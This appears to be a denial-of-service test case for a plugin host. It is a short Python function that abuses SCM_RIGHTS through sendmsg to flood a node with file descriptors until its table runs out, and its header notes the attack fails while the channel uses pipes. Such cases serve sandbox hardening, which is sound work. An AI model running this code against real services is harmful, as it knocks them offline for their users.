# family: frames-of-ours
# kind: dos
# machine: x86_64
# tries: descriptors sent along the channel (SCM_RIGHTS), to fill the node's table: it fails while the channel is pipes
# success looks like: the node runs out of descriptors
def job(plugin):
  @LIBC@
  frame = b'\0\0\0\x17{"did":"log","text":""}'
  text = c.create_string_buffer(frame, len(frame))
  vector = (c.c_void_p * 2)(c.addressof(text), len(frame))
  count = 250
  ancillary = (16 + 4 * count).to_bytes(8, 'little') + (1).to_bytes(4, 'little') * 2
  ancillary = c.create_string_buffer(ancillary + (0).to_bytes(4, 'little') * count)
  header = (c.c_void_p * 7)(None, 0, c.addressof(vector), 1, c.addressof(ancillary), 16 + 4 * count, 0)
  return [libc.sendmsg(3, header, 0) for i in range(200)].count(len(frame))
